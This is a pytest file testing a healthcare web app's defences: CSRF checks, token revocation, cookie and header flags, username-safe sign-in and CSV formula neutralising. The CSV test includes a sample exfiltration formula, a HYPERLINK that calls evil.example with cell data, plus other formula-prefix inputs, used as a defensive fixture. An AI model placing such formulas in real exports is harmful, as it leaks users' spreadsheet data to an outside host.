"""Web and session security on a real database (SQLite and PostgreSQL): CSRF, signing out,
cookie flags, security headers, sign-in that does not reveal usernames, formula-safe CSV."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import func, select
from starlette.testclient import TestClient

from sharedcare.app import SharedCare, create_app
from sharedcare.fhir.outcome import FHIRError
from sharedcare.governance.schema import feedback

ORG = "RTEST"
PASSWORD = "correct horse battery staple"


@pytest.fixture
def world(sc):
    gov = sc.governance
    gov.add_staff("dr.one", "Dr One", [(ORG, "clinician")], PASSWORD)
    gov.add_staff("prog.lead", "Programme Lead", [(ORG, "programme-lead")], PASSWORD)
    return sc


def browser(app, base="http://testserver", **kw) -> TestClient:
    return TestClient(app, base_url=base, follow_redirects=False, **kw)


def sign_in(c: TestClient, username: str = "dr.one", password: str = PASSWORD):
    c.get("/sign-in")
    csrf = c.cookies.get("sc_csrf") or ""
    # Sent explicitly: behind a (simulated) HTTPS proxy the client's URL is http, and it would
    # rightly hold back a Secure cookie.
    return c.post("/sign-in", data={"username": username, "password": password, "next": "/",
                                    "csrf": csrf}, headers={"Cookie": f"sc_csrf={csrf}"})


def feedback_rows(sc) -> int:
    with sc.engine.connect() as conn:
        return conn.execute(select(func.count()).select_from(feedback)).scalar_one()


# --- 1. CSRF -------------------------------------------------------------------------------------
@pytest.mark.parametrize("cookie,field", [(None, None), (None, "x" * 32), ("x" * 32, None),
                                          ("x" * 32, "y" * 32), ("", "")])
def test_form_post_needs_matching_csrf_cookie_and_field(world, cookie, field):
    """A browser restarted within the session has the session cookie but no CSRF cookie; a
    cross-site form has no field. Missing, empty or different: refused, nothing written."""
    sc = world
    with browser(create_app(sc)) as c:
        c.cookies.set("sc_session", sc.governance.issue_token("dr.one", ORG, "clinician"))
        if cookie is not None:
            c.cookies.set("sc_csrf", cookie)
        data = {"kind": "idea", "text": "forged feedback", "page": "/"}
        if field is not None:
            data["csrf"] = field
        r = c.post("/feedback", data=data)
        assert r.status_code == 400 and "Form expired" in r.text
    assert feedback_rows(sc) == 0


def test_form_post_with_this_browsers_token_works(world):
    sc = world
    with browser(create_app(sc)) as c:
        c.cookies.set("sc_session", sc.governance.issue_token("dr.one", ORG, "clinician"))
        c.get("/")
        r = c.post("/feedback", data={"kind": "idea", "text": "real feedback", "page": "/",
                                      "csrf": c.cookies.get("sc_csrf")})
        assert r.status_code == 303
    assert feedback_rows(sc) == 1


# --- 2. signing out revokes the token ----------------------------------------------------------
def test_sign_out_revokes_the_session_token_everywhere(world, database_url, tmp_path):
    sc = world
    app = create_app(sc)
    with browser(app) as c:
        assert sign_in(c).status_code == 303
        token = c.cookies.get("sc_session")
        assert token
        assert c.get("/").status_code == 200
        api = {"Authorization": f"Bearer {token}"}
        assert c.get("/fhir/Patient", headers=api).status_code == 200
        r = c.get("/sign-out")
        assert r.status_code == 303 and r.headers["location"] == "/sign-in"
        # Someone who kept a copy of the cookie (or the token) gets nothing more.
        c.cookies.set("sc_session", token)
        r = c.get("/")
        assert r.status_code == 303 and r.headers["location"].startswith("/sign-in")
        r = c.get("/fhir/Patient", headers=api)
        assert r.status_code == 401 and "revoked" in r.text
    with pytest.raises(FHIRError) as e:
        sc.governance.tokens.verify(token)
    assert e.value.status == 401
    # Another server on the same database refuses it too (nothing is cached in a process).
    other = SharedCare.open(database_url, tmp_path / "data")
    try:
        with pytest.raises(FHIRError):
            other.governance.tokens.verify(token)
    finally:
        other.engine.dispose()
    # Other sessions of the same person are untouched; expired rows are cleared on the way.
    fresh = sc.governance.issue_token("dr.one", ORG, "clinician")
    assert sc.governance.tokens.verify(fresh)["sub"] == "dr.one"
    from sharedcare.governance.schema import revoked_token

    with sc.engine.connect() as conn:
        assert conn.execute(select(func.count()).select_from(revoked_token)).scalar_one() == 1


def test_revoking_twice_or_a_bad_token_is_harmless(world):
    tokens = world.governance.tokens
    tok = world.governance.issue_token("dr.one", ORG, "clinician")
    assert tokens.revoke(tok) is True
    assert tokens.revoke(tok) is False
    assert tokens.revoke("not-a-token") is False
    with browser(create_app(world)) as c:  # signing out with no session at all
        assert c.get("/sign-out").status_code == 303


# --- 3. cookie flags ---------------------------------------------------------------------------
def _set_cookies(r) -> dict[str, str]:
    out = {}
    for v in r.headers.get_list("set-cookie"):
        out[v.split("=", 1)[0]] = v
    return out


def _attrs(cookie: str) -> set[str]:
    return {a.strip().split("=")[0].lower() for a in cookie.split(";")[1:]}


@pytest.mark.parametrize("base,headers,trust,secure", [
    ("https://testserver", {}, False, True),
    ("http://testserver", {}, False, False),
    ("http://testserver", {"X-Forwarded-Proto": "https"}, False, False),  # not trusted
    ("http://testserver", {"X-Forwarded-Proto": "https"}, True, True),
    ("http://testserver", {"X-Forwarded-Proto": "http"}, True, False),
])
def test_session_cookie_flags(world, monkeypatch, base, headers, trust, secure):
    if trust:
        monkeypatch.setenv("SHAREDCARE_TRUST_PROXY", "1")
    else:
        monkeypatch.delenv("SHAREDCARE_TRUST_PROXY", raising=False)
    with browser(create_app(world), base=base, headers=headers) as c:
        page = c.get("/sign-in")
        r = sign_in(c)
        assert r.status_code == 303
    cookies = {**_set_cookies(page), **_set_cookies(r)}
    session, csrf_cookie = cookies["sc_session"], cookies["sc_csrf"]
    assert {"httponly", "samesite"} <= _attrs(session)
    assert "samesite=lax" in session.lower().replace(" ", "")
    assert "httponly" in _attrs(csrf_cookie)
    assert ("secure" in _attrs(session)) is secure
    assert ("secure" in _attrs(csrf_cookie)) is secure
    assert ("strict-transport-security" in r.headers) is secure


# --- 4. security headers -----------------------------------------------------------------------
def test_every_response_carries_security_headers_and_no_store(world):
    sc = world
    tok = sc.governance.issue_token("dr.one", ORG, "clinician")
    lead = sc.governance.issue_token("prog.lead", ORG, "programme-lead")
    with browser(create_app(sc)) as c:
        c.cookies.set("sc_session", tok)
        responses = {
            "page": c.get("/"),
            "sign-in page": c.get("/sign-in"),
            "not found": c.get("/no-such-page"),
            "FHIR JSON": c.get("/fhir/Patient", headers={"Authorization": f"Bearer {tok}"}),
            "FHIR error": c.get("/fhir/Patient/nobody", headers={"Authorization": "Bearer x"}),
            "FHIR metadata": c.get("/fhir/metadata"),
        }
        c.cookies.set("sc_session", lead)
        responses["CSV"] = c.get("/programme/feedback.csv")
        static = c.get("/static/sharedcare.css")
    assert responses["CSV"].headers["content-type"].startswith("text/csv")
    assert responses["FHIR JSON"].status_code == 200
    for what, r in responses.items():
        h = r.headers
        assert "no-store" in h.get("cache-control", ""), what
        assert h.get("x-content-type-options") == "nosniff", what
        assert h.get("x-frame-options") == "DENY", what
        assert h.get("referrer-policy") == "no-referrer", what
        csp = h.get("content-security-policy", "")
        assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp, what
        assert "unsafe-inline" not in csp.split("script-src")[1].split(";")[0], what
    assert static.status_code == 200
    assert "no-store" not in static.headers.get("cache-control", "")
    assert static.headers.get("x-content-type-options") == "nosniff"


def test_pages_have_no_inline_script(world):
    """The policy allows scripts from this server only: an inline script would not run."""
    import re

    with browser(create_app(world)) as c:
        html = c.get("/sign-in").text
    scripts = re.findall(r"<script\b([^>]*)>(.*?)</script>", html, re.DOTALL)
    assert scripts, "the base page loads the design system's script"
    for attrs, body in scripts:
        assert "src=" in attrs and not body.strip(), attrs
    assert not re.search(r"\son[a-z]+=", html), "inline event handlers do not run under the CSP"


# --- 5. sign-in does not reveal which usernames exist -----------------------------------------
def _error_of(r) -> str:
    import re

    m = re.search(r'nhsuk-error-summary__list"><li><a href="#username">([^<]+)<', r.text)
    return m.group(1) if m else ""


def test_sign_in_failures_all_say_the_same(world):
    sc = world
    sc.governance.add_staff("locked.one", "Locked One", [(ORG, "clinician")], PASSWORD)
    for _ in range(5):
        sc.governance.sign_in("locked.one", "wrong")
    assert sc.governance.is_locked("locked.one")
    answers = {}
    with browser(create_app(sc)) as c:
        for case, (user, pw) in {"unknown": ("no.such.person", PASSWORD),
                                 "wrong password": ("dr.one", "wrong"),
                                 "locked, right password": ("locked.one", PASSWORD),
                                 "locked, wrong password": ("locked.one", "wrong")}.items():
            r = sign_in(c, user, pw)
            answers[case] = (r.status_code, _error_of(r))
            assert "sc_session" not in c.cookies
    assert len(set(answers.values())) == 1, answers
    status, message = answers["unknown"]
    assert status == 401 and message
    assert sc.governance.is_locked("locked.one"), "the lock-out itself stays"


def test_unknown_user_costs_a_real_argon2_verify(world, monkeypatch):
    from argon2 import PasswordHasher

    from sharedcare.governance import auth

    calls = []
    real = PasswordHasher.verify

    def counting(self, hash, password):
        calls.append(hash[:10])
        return real(self, hash, password)

    monkeypatch.setattr(PasswordHasher, "verify", counting)
    assert auth.check_password(None, PASSWORD) is False
    assert auth.check_password("", PASSWORD) is False
    assert calls == ["$argon2id$", "$argon2id$"]
    calls.clear()
    assert not world.governance.sign_in("no.such.person", PASSWORD)
    assert calls == ["$argon2id$"]


def test_sign_in_does_the_same_work_for_an_unknown_user(world, monkeypatch):
    """An unknown username, a wrong password and a locked account each cost one full argon2
    verification (against a dummy hash when there is no account), so how long sign-in takes
    does not tell anyone which usernames exist. Counted, not timed: a busy machine's timings
    say nothing reliable (the figure is for a benchmark)."""
    from argon2 import PasswordHasher

    from sharedcare.governance import auth

    gov = world.governance
    verified: list[str] = []
    real = PasswordHasher.verify

    def counting(self, hash, password):
        verified.append(hash)
        return real(self, hash, password)

    monkeypatch.setattr(PasswordHasher, "verify", counting)
    for user in ("dr.one", "no.such.person"):
        verified.clear()
        assert gov.sign_in(user, "wrong-password") is False
        assert len(verified) == 1, user
        assert verified[0].startswith("$argon2")
        same_cost = auth.password_hasher().check_needs_rehash(verified[0]) is False
        assert same_cost, "the dummy hash has the same parameters as stored ones"
    gov.sign_in("dr.one", PASSWORD)


# --- 6. CSV formula injection ------------------------------------------------------------------
def test_feedback_csv_neutralises_formulas(world):
    sc = world
    tok = sc.governance.issue_token("dr.one", ORG, "clinician")
    lead = sc.governance.issue_token("prog.lead", ORG, "programme-lead")
    texts = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
             "\t=1+1", "\r=1+1", "plain text - with a dash", "3 - 1"]
    with browser(create_app(sc)) as c:
        c.cookies.set("sc_session", tok)
        c.get("/")
        for t in texts:
            r = c.post("/feedback", data={"csrf": c.cookies.get("sc_csrf"), "kind": "idea",
                                          "text": t, "page": "/"})
            assert r.status_code == 303
        c.cookies.set("sc_session", lead)
        body = c.get("/programme/feedback.csv").text
    rows = list(csv.DictReader(io.StringIO(body)))
    got = {r["text"] for r in rows}
    for t in (t.strip() for t in texts):  # the form trims what is typed
        if t[0] in "=+-@":
            assert "'" + t in got and t not in got, t
        else:
            assert t in got, t
    for r in rows:
        for v in r.values():
            assert not (v or "").startswith(("=", "+", "-", "@", "\t", "\r")), v


def test_the_openid_connect_sign_out_revokes_too(world):
    sc = world
    token = sc.governance.issue_token("dr.one", ORG, "clinician")
    with browser(create_app(sc)) as c:
        c.cookies.set("sc_session", token)
        assert c.get("/auth/sign-out").status_code == 303
        r = c.get("/fhir/Patient", headers={"Authorization": f"Bearer {token}"})
        assert r.status_code == 401
